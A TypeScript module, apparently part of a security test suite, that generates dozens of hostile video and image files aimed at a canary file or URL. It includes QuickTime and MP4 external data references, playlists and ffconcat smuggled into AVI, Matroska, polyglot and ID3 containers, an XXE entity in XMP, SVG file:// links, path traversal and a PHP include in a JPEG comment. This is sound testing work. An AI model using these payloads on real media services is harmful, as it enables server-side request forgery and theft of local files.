import sharp from 'sharp'
import { box, element, intoSegment, number32, replaceBoxes } from './boxes.ts'
import type { Canary } from './canary.ts'
import { makeClip } from './clips.ts'
import { hostileTexts } from './hostile-texts.ts'

/** A file that tries to make a program open another file or a connection. */
export interface HostileFile {
  name: string
  /** To which it would be sent. */
  service: 'video' | 'image'
  content: Buffer
}

/** All of them, each aimed at the canary. */
export async function hostileFiles(canary: Canary): Promise<HostileFile[]> {
  const clips = {
    mp4: await smallClip('small.mp4', ['-c:v', 'libx264', '-pix_fmt', 'yuv420p', '-c:a', 'aac']),
    mov: await smallClip('small.mov', ['-c:v', 'libx264', '-pix_fmt', 'yuv420p', '-c:a', 'aac']),
    mkv: await smallClip('small.mkv', ['-c:v', 'libx264', '-pix_fmt', 'yuv420p', '-c:a', 'aac']),
    avi: await smallClip('small.avi', ['-c:v', 'mpeg4', '-c:a', 'libmp3lame']),
  }
  const of = (service: HostileFile['service'], files: Record<string, Buffer>) =>
    Object.entries(files).map(([name, content]) => ({ name, service, content }))
  return [
    ...hostileTexts(canary),
    ...of('video', {
      ...movies(canary, clips),
      ...otherContainers(canary, clips),
      ...polyglots(canary, clips),
    }),
    ...of('image', await pictures(canary)),
  ]
}

type Clips = Record<'mp4' | 'mov' | 'mkv' | 'avi', Buffer>

const PLAYED = ['-f', 'lavfi', '-i', 'testsrc2=duration=1:size=64x64:rate=10']
const HEARD = ['-f', 'lavfi', '-i', 'sine=duration=1']

/** A second of picture and sound. */
export function smallClip(name: string, encoding: string[]): Promise<Buffer> {
  return makeClip(name, [...PLAYED, ...HEARD, ...encoding])
}

/** A data reference of QuickTime's alias kind: volume, name, then the absolute path as entry 2. */
function alias(path: string): Buffer {
  const name = Buffer.alloc(64)
  name.write(`\x07clip.ts`, 'latin1')
  const entry = Buffer.alloc(4)
  entry.writeUInt16BE(2)
  entry.writeUInt16BE(path.length, 2)
  const rest = [
    Buffer.alloc(16),
    Buffer.alloc(4),
    Buffer.alloc(16),
    entry,
    path.padEnd(path.length + (path.length % 2)),
    '\xff\xff\0\0',
  ]
  return box('alis', number32(0), Buffer.alloc(10), Buffer.alloc(28), Buffer.alloc(12), name, ...rest)
}

/** QuickTime files whose samples, or whose whole contents, lie elsewhere. */
function movies({ clip, url }: Canary, { mp4, mov }: Clips): Record<string, Buffer> {
  const refer = (file: Buffer, ...entries: Buffer[]) =>
    replaceBoxes(file, 'dref', () => box('dref', number32(0, entries.length), ...entries))
  const remote = `${url}/clip.mp4\0`
  const redirect = (kind: string, address: string) =>
    Buffer.concat([
      box('ftyp', 'qt  ', number32(0x200), 'qt  '),
      box(
        'moov',
        box('rmra', box('rmda', box('rdrf', number32(0), kind, number32(address.length), address))),
      ),
    ])
  const external = refer(mov, alias(clip))
  return {
    'a MOV whose samples lie in a file': external,
    'a MOV whose samples lie behind an address': refer(mov, box('url ', number32(0), remote)),
    'an MP4 whose samples lie in a file': refer(mp4, box('url ', number32(0), `file://${clip}\0`)),
    'an MP4 whose samples have a name': refer(mp4, box('urn ', number32(0), `a\0${remote}`)),
    'a MOV of two references': refer(mov, box('url ', number32(1)), alias(clip)),
    'a MOV whose samples lie in a file, large enough to be read by parts': Buffer.concat([
      external,
      box('free', Buffer.alloc(9 * 1024 * 1024)),
    ]),
    'a reference movie of an address': redirect('url ', remote),
    'a reference movie of a file': redirect('url ', `file://${clip}\0`),
    'a reference movie of an alias': redirect('alis', alias(clip).toString('latin1')),
    'a reference movie by RTSP': redirect('url ', remote.replace('http', 'rtsp')),
    'a movie of a compressed header that is none': box(
      'moov',
      box('cmov', box('dcom', 'zlib'), box('cmvd', number32(1e9), clip)),
    ),
    'an MP4 with a hint for RTP': Buffer.concat([
      mp4,
      box('udta', box('hnti', box('rtp ', `sdp m=video ${url}`))),
    ]),
  }
}

/** RIFF, Matroska, ASF, Flash, ID3: what they can carry that names something else. */
function otherContainers({ clip, url }: Canary, { mkv, avi }: Clips): Record<string, Buffer> {
  const playlist = `#EXTM3U\n#EXTINF:1,\n${clip}\n#EXTINF:1,\n${url}/clip.ts\n#EXT-X-ENDLIST\n`
  const asf = Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex')
  const id3 = (frame: string, body: string) => {
    const sizes = number32(body.length)
    return Buffer.concat([
      Buffer.from('ID3\x03\0\0\0\0'),
      Buffer.from([(body.length + 10) >> 7, (body.length + 10) & 127]),
      Buffer.from(frame),
      sizes,
      Buffer.from('\0\0'),
      Buffer.from(body, 'latin1'),
    ])
  }
  const linked = [
    element(
      0x1549a966,
      element(0x2ad7b1, Buffer.from('0f4240', 'hex')),
      element(0x3eb923, Buffer.alloc(16, 7)),
      element(0x3e83bb, clip),
      element(0x3c83ab, clip),
    ),
    element(
      0x1043a770,
      element(
        0x45b9,
        element(0x45dd, '\x01'),
        element(
          0xb6,
          element(0x73c4, '\x01'),
          element(0x91, '\0'),
          element(0x92, '\x7f'),
          element(0x6e67, Buffer.alloc(16, 7)),
        ),
      ),
    ),
  ]
  const attachment = (name: string, kind: string, content: string) =>
    element(
      0x1941a469,
      element(
        0x61a7,
        element(0x466e, name),
        element(0x4660, kind),
        element(0x465c, content),
        element(0x46ae, '\x01'),
      ),
    )
  return {
    'an AVI whose subtitles are a playlist': withSubtitles(avi, playlist),
    'an AVI whose subtitles are ffconcat': withSubtitles(avi, `ffconcat version 1.0\nfile '${clip}'\n`),
    'an AVI whose subtitles are ASS': withSubtitles(
      avi,
      `[Script Info]\nVideo File: ${clip}\n[V4+ Styles]\n[Events]\n`,
    ),
    'a Matroska file of linked segments': intoSegment(mkv, ...linked),
    'a Matroska file with a playlist attached': intoSegment(
      mkv,
      attachment('a.m3u8', 'application/x-mpegURL', playlist),
    ),
    'a Matroska file with a font of a path': intoSegment(
      mkv,
      attachment(`../../../..${clip}`, 'application/x-truetype-font', 'font'),
    ),
    'a Matroska file with tags of paths': intoSegment(
      mkv,
      element(
        0x1254c367,
        element(0x7373, element(0x67c8, element(0x45a3, 'filename'), element(0x4487, clip))),
      ),
    ),
    'a WebM of playlists': Buffer.concat([
      element(0x1a45dfa3, element(0x4282, 'webm')),
      Buffer.from(playlist),
    ]),
    'an ASF of references': Buffer.concat([
      asf,
      Buffer.from(`\0\0\0\0\0\0\0\0[Reference]\r\nRef1=${url}/clip\r\n`),
    ]),
    'an MMS redirect': Buffer.from(`MMSH://127.0.0.1:1/\n${url}`),
    'a Flash video of addresses': Buffer.concat([
      Buffer.from('FLV\x01\x05\0\0\0\x09\0\0\0\0\x12\0\0\x40\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(`\x02\0\x0aonMetaData\x02\0\x30${url}/clip`),
    ]),
    'an ID3 tag with a linked picture': id3('APIC', `\0-->\0\x03\0${url}/picture.png`),
    'an ID3 tag of a playlist': id3('WXXX', `\0\0${url}\n${playlist}`),
    'a RealMedia file of addresses': Buffer.from(`.RMF\0\0\0\x12\0\0\0\0\0\0\0\0\0\0rtsp://${url}`),
    'a WAV of a playlist': Buffer.concat([
      Buffer.from('RIFF\xff\0\0\0WAVELIST', 'latin1'),
      Buffer.from(playlist),
    ]),
    'an Ogg of a playlist': Buffer.concat([
      Buffer.from('OggS\0\x02\0\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(playlist),
    ]),
    'a transport stream of a playlist': Buffer.concat(
      [0, 1, 2, 3, 4].map(() => Buffer.from(`G\x40\0\x10${playlist}`.padEnd(188).slice(0, 188), 'latin1')),
    ),
  }
}

/** An AVI with one more track: a text that names its own format, which ffmpeg's reader opens anew. */
function withSubtitles(avi: Buffer, text: string): Buffer {
  const chunk = (name: string, body: Buffer) => {
    const size = Buffer.alloc(4)
    size.writeUInt32LE(body.length)
    return Buffer.concat([Buffer.from(name), size, body, Buffer.alloc(body.length % 2)])
  }
  const named = Buffer.concat([
    Buffer.from('GAB2\0\x02\0\0\0\0\0\0\x04\0', 'latin1'),
    Buffer.alloc(4),
    Buffer.from(text),
  ])
  named.writeUInt32LE(text.length, 14)
  const header = Buffer.alloc(56)
  header.write('txts')
  header.writeUInt32LE(1, 20)
  header.writeUInt32LE(1, 24)
  const track = chunk(
    'LIST',
    Buffer.concat([Buffer.from('strl'), chunk('strh', header), chunk('strf', Buffer.alloc(40))]),
  )
  const tracks_end = 20 + avi.readUInt32LE(16)
  const samples = avi.indexOf('movi')
  const file = Buffer.concat([
    ...[avi.subarray(0, tracks_end), track, avi.subarray(tracks_end, samples + 4), chunk('02tx', named)],
    avi.subarray(samples + 4),
  ])
  file.writeUInt32LE(avi.readUInt32LE(16) + track.length, 16)
  return file
}

/** Files that are one thing at their start and another where somebody else begins to read. */
function polyglots({ clip, url }: Canary, { mp4, mkv }: Clips): Record<string, Buffer> {
  const lines = `#EXTINF:1,\n${clip}\n#EXTINF:1,\n${url}/clip.ts\n#EXT-X-ENDLIST\n`
  const playlist = Buffer.from(`#EXTM3U\n${lines}`)
  const zip = Buffer.from(`PK\x03\x04\x14\0\0\0\0\0${'\0'.repeat(16)}\x08\0\0\0../a.m3u8`, 'latin1')
  return {
    'a playlist, then an MP4': Buffer.concat([playlist, mp4]),
    'an MP4, then a playlist': Buffer.concat([mp4, Buffer.from('\n'), playlist]),
    'a playlist that begins as an MP4': Buffer.concat([
      Buffer.from('\0\0\0\x18ftypisom\n#EXTM3U\n'),
      Buffer.from(lines),
    ]),
    'a playlist in the first box of an MP4': Buffer.concat([box('free', playlist), mp4]),
    'a playlist in the tags of an MP4': Buffer.concat([mp4, box('udta', box('meta', playlist))]),
    'a playlist, then a Matroska file': Buffer.concat([playlist, mkv]),
    'a GIF that is a playlist': Buffer.from(`GIF89a=1;\n#EXTM3U\n${lines}`),
    'a playlist that is a GIF': Buffer.concat([playlist, Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')]),
    'an archive of a playlist': Buffer.concat([zip, playlist]),
    'an MP4 in an archive': Buffer.concat([zip, mp4, Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]),
    'an MP4 with a picture of an address as its cover': Buffer.concat([
      mp4,
      box(
        'udta',
        box('meta', number32(0), box('ilst', box('covr', box('data', number32(13, 0), `${url}/a.png`)))),
      ),
    ]),
    'a JPEG, then a playlist': Buffer.concat([
      Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
      playlist,
    ]),
  }
}

async function pictures({ picture, url, text }: Canary): Promise<Record<string, Buffer>> {
  const plain = sharp({ create: { width: 64, height: 64, channels: 3, background: '#08f' } })
  const [jpeg, png, gif, avif] = await Promise.all([
    ...[plain.clone().jpeg().toBuffer(), plain.clone().png().toBuffer(), plain.clone().gif().toBuffer()],
    plain.clone().avif().toBuffer(),
  ])
  if (jpeg === undefined || png === undefined || gif === undefined || avif === undefined)
    throw new Error('no pictures')
  const segment = (marker: number, content: string) => {
    const head = Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255])
    return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(content, 'latin1'), jpeg.subarray(2)])
  }
  const packet = `<?xpacket begin=""?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${text}">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:source="&e;"/></rdf:RDF></x:xmpmeta>`
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${picture}"/></svg>`
  return {
    'a JPEG with XMP that names a file': segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${packet}`),
    'a JPEG with a comment that is a script': segment(0xfe, `<?php include("${url}"); ?>`),
    'a JPEG with a linked colour profile': segment(0xe2, `ICC_PROFILE\0\x01\x01${url}/profile.icc`),
    'a JPEG with a linked preview': segment(0xe2, `MPF\0${picture}`),
    'a JPEG that ends as SVG': Buffer.concat([jpeg, Buffer.from(drawing)]),
    'a JPEG with a file of exiftool arguments': segment(0xfe, `-o ${picture}\n-tagsfromfile ${picture}\n`),
    'a PNG with a text of entities': Buffer.concat([
      png.subarray(0, 33),
      pngText(`XML:com.adobe.xmp\0${packet}`),
      png.subarray(33),
    ]),
    'a PNG with a profile of a path': Buffer.concat([
      png.subarray(0, 33),
      pngText(`profile\0@${text}`),
      png.subarray(33),
    ]),
    'a GIF that is SVG as well': Buffer.concat([
      gif.subarray(0, -1),
      Buffer.from(`!\xfe\x7f`, 'latin1'),
      Buffer.from(drawing),
      Buffer.from('\0;'),
    ]),
    'an AVIF of external data': replaceBoxes(avif, 'meta', (body) =>
      box('meta', body, box('dinf', box('dref', number32(0, 1), box('url ', number32(0), `${url}/a\0`)))),
    ),
    'a HEIC of external data': Buffer.concat([
      box('ftyp', 'heic', number32(0), 'mif1heic'),
      box(
        'meta',
        number32(0),
        box('dinf', box('dref', number32(0, 1), box('url ', number32(0), `file://${picture}\0`))),
      ),
    ]),
    'a TIFF of a document': Buffer.concat([
      Buffer.from('II*\0\x08\0\0\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(picture),
    ]),
    'a WebP of XMP': Buffer.concat([
      Buffer.from('RIFF\xff\xff\0\0WEBPVP8X\x0a\0\0\0\x04\0\0\0\x3f\0\0\x3f\0\0XMP ', 'latin1'),
      number32(0),
      Buffer.from(packet),
    ]),
    'an icon of a path': Buffer.concat([Buffer.from('\0\0\x01\0\x01\0', 'latin1'), Buffer.from(picture)]),
    'a libvips picture': Buffer.concat([
      Buffer.from('08f2a6b6', 'hex'),
      Buffer.alloc(60),
      Buffer.from(drawing),
    ]),
    'a JPEG 2000 with a link': Buffer.concat([
      box('jP  ', '\r\n\x87\n'),
      box('ftyp', 'jp2 ', number32(0), 'jp2 '),
      box('url ', number32(0), `${url}/a\0`),
    ]),
  }
}

/** The checksum is wrong: readers that look at texts forgive that. */
function pngText(content: string): Buffer {
  return Buffer.concat([number32(content.length), Buffer.from(`tEXt${content}`, 'latin1'), number32(0)])
}
